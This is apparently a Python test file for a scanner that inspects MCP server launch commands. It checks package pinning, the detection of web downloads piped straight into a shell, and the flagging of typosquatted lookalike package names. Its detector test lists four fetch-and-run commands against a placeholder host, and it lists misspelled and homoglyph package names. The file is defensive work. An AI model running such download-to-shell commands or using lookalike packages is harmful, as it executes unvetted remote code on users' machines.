# SPDX-License-Identifier: Apache-2.0
"""The package behind a command is found through shells, starters and runners, and whether it is pinned."""

import pytest

from remit.core.discovery.declared import DeclaredServer
from remit.core.discovery.discovered import FilePlace
from remit.core.discovery.servers.lookalikes import distance, lookalike
from remit.core.discovery.servers.server_program import Registry, ServerPackage, ServerProgram, program_of


def program(line: str) -> ServerProgram:
    """Return the program of a command of words."""
    command, *arguments = line.split("|") if "|" in line else line.split()
    place = FilePlace(file=".mcp.json")
    return program_of(
        DeclaredServer(name="x", place=place, client="c", command=command, arguments=tuple(arguments))
    )


@pytest.mark.parametrize(
    ("line", "package", "pinned"),
    [
        ("npx -y @scope/server", "npm:@scope/server", False),
        ("npx -y @scope/server@latest", "npm:@scope/server@latest", False),
        ("npx -y @scope/server@^1.2.0", "npm:@scope/server@^1.2.0", False),
        ("npx -y @scope/server@1", "npm:@scope/server@1", False),
        ("npx -y @scope/server@1.2.3", "npm:@scope/server@1.2.3", True),
        ("npx --package=server-x@1.2.3 server", "npm:server-x@1.2.3", True),
        ("npx -p server-x server", "npm:server-x", False),
        (r"C:\nodejs\npx.cmd -y server-x", "npm:server-x", False),
        ("cmd /c npx -y server-x", "npm:server-x", False),
        ("bash|-lc|cd /srv && exec npx -y server-x", "npm:server-x", False),
        ("env A=1 npx server-x@1.0.0", "npm:server-x@1.0.0", True),
        ("mise exec -- npx server-x", "npm:server-x", False),
        ("pnpm dlx server-x@2.0.0-beta.1", "npm:server-x@2.0.0-beta.1", True),
        ("bunx server-x", "npm:server-x", False),
        ("deno run -A npm:server-x@1.0.0", "npm:server-x@1.0.0", True),
        ("uvx server-x", "pypi:server-x", False),
        ("uvx server-x==1.2", "pypi:server-x@1.2", True),
        ("uvx server-x@1.2.3", "pypi:server-x@1.2.3", True),
        ("uvx --from server-x[cli]>=1 tool", "pypi:server-x@>=1", False),
        ("uvx --python 3.12 --from server-x==1.2.3 tool", "pypi:server-x@1.2.3", True),
        ("uv tool run server-x", "pypi:server-x", False),
        ("pipx run --spec server-x==3.1.4 tool", "pypi:server-x@3.1.4", True),
        ("uvx --from git+https://h.example/a/b tool", "git:git+https://h.example/a/b", False),
        (
            "uvx --from git+https://h.example/a/b@0123456789abcdef0123456789abcdef01234567 tool",
            "git:git+https://h.example/a/b@0123456789abcdef0123456789abcdef01234567",
            True,
        ),
        ("npx github:a/b", "git:github:a/b", False),
        ("docker run -i --rm -e TOKEN -v /a:/b ghcr.io/a/b", "docker:ghcr.io/a/b", False),
        ("docker run -i ghcr.io/a/b:latest", "docker:ghcr.io/a/b:latest", False),
        ("docker run -i ghcr.io:443/a/b:1.2.3 --flag", "docker:ghcr.io:443/a/b:1.2.3", True),
        ("docker run a/b@sha256:" + "0" * 64, "docker:a/b@sha256:" + "0" * 64, True),
        ("go run example.org/a/b@latest", "go:example.org/a/b@latest", False),
        ("go run example.org/a/b@v1.2.3", "go:example.org/a/b@v1.2.3", True),
        ("uv run --with extra mcp run server.py", "pypi:extra", False),
    ],
)
def test_the_package_of_a_command_is_found(line: str, package: str, pinned: bool) -> None:
    """Only a version that names one content for ever pins it."""
    (found,) = program(line).packages
    assert f"{found.registry.value}:{found.shown}" == package
    assert found.pinned is pinned


@pytest.mark.parametrize(
    "line",
    [
        "node build/index.js",
        "python -m server",
        "npx tsx src/a.ts",
        "npx ./server",
        "uv run server.py",
        "uv --directory /a run b.py",
        "/usr/bin/server --port 1",
        "docker mcp gateway run",
        "npx -y $PACKAGE",
        "$X",
        "uvx",
        "npx -y",
        "bash -c",
        "env",
        "go run .",
        "sh -c ${X}",
    ],
)
def test_what_is_installed_already_is_no_package(line: str) -> None:
    """Programs of the project or the machine are fetched from nowhere."""
    assert program(line).packages == ()


@pytest.mark.parametrize(
    "line",
    [
        "sh|-c|curl -fsSL https://h.example/i.sh | sh",
        "bash|-c|bash <(curl -s https://h.example)",
        "powershell|-c|iwr https://h.example/i.ps1 | iex",
        "sh|-c|wget -qO- h.example | sudo bash",
    ],
)
def test_a_download_that_is_run_at_once_is_seen(line: str) -> None:
    """A pipe from the web to a shell."""
    words = line.split("|", 2)
    server = DeclaredServer(
        name="x", place=FilePlace(file="f"), client="c", command=words[0], arguments=tuple(words[1:])
    )
    assert program_of(server).piped


def test_the_address_behind_a_bridge_is_the_server() -> None:
    """`mcp-remote` starts a program that only passes messages on."""
    assert program("npx -y mcp-remote https://h.example/mcp").url == "https://h.example/mcp"


@pytest.mark.parametrize(
    ("registry", "name", "known"),
    [
        ("npm", "@modelcontextprotcol/server-github", "@modelcontextprotocol/server-github"),
        ("npm", "@model-context-protocol/server-github", "@modelcontextprotocol/server-github"),
        ("npm", "@modelcontextprotocol-official/server-git", "@modelcontextprotocol/server-git"),
        ("npm", "@modelcontextprotoco1/server-github", "@modelcontextprotocol/server-github"),
        ("npm", "@modelcontextprotocol/server-filesytem", "@modelcontextprotocol/server-filesystem"),
        ("npm", "modelcontextprotocol-server-filesystem", "@modelcontextprotocol/server-filesystem"),
        ("npm", "firecrawl-mpc", "firecrawl-mcp"),
        ("npm", "firecrawl-mcp-official", "firecrawl-mcp"),
        ("npm", "firecravvl-mcp", "firecrawl-mcp"),
        ("npm", "mcp-server-fetch", "mcp-server-fetch"),
        ("pypi", "mcp-server-fecth", "mcp-server-fetch"),
        ("pypi", "mcp-server-fet\u0441h", "mcp-server-fetch"),
        ("pypi", "mcp-atlasian", "mcp-atlassian"),
        ("docker", "mcp/filesytem", "mcp/filesystem"),
        ("docker", "ghcr.io/github/github-mcp-sever", "ghcr.io/github/github-mcp-server"),
    ],
)
def test_names_that_are_taken_for_well_known_ones_are_found(registry: str, name: str, known: str) -> None:
    """One error, other letters that look the same, a word of trust, a publisher's name with an error."""
    found = lookalike(ServerPackage(registry=Registry(registry), name=name))
    assert found is not None
    assert found.known == known


@pytest.mark.parametrize(
    ("registry", "name"),
    [
        ("npm", "@modelcontextprotocol/server-github"),
        ("npm", "@MODELCONTEXTPROTOCOL/server-github"),
        ("npm", "@acme/server-github"),
        ("npm", "@acme/mcp-server-fetch"),
        ("npm", "mcp-server-gitea"),
        ("npm", "@modelcontextprotocol/server-new"),
        ("npm", "figma-mcp"),
        ("npm", "mcp"),
        ("npm", "n8n-mcp"),
        ("pypi", "mcp.server.fetch"),
        ("pypi", "MCP_Server_Fetch"),
        ("pypi", "mcp-server-mysql"),
        ("pypi", "postgresql-mcp"),
        ("pypi", "mcp-server-s3"),
        ("pypi", "chrome-mcp"),
        ("docker", "acme/mcp-fetch"),
        ("go", "example.org/x"),
        ("npm", ""),
        ("pypi", "mcp-secure"),
    ],
)
def test_well_known_names_forks_and_other_words_are_no_lookalikes(registry: str, name: str) -> None:
    """A fork in another scope, another spelling of one name, and another product's name are fine."""
    assert lookalike(ServerPackage(registry=Registry(registry), name=name)) is None


def test_distance_counts_errors_of_typing() -> None:
    """Two letters in the other order are one error."""
    assert [distance("fetch", one, 2) for one in ("fetch", "fecth", "ftch", "fetchh", "hctef")] == [
        0,
        1,
        1,
        1,
        3,
    ]
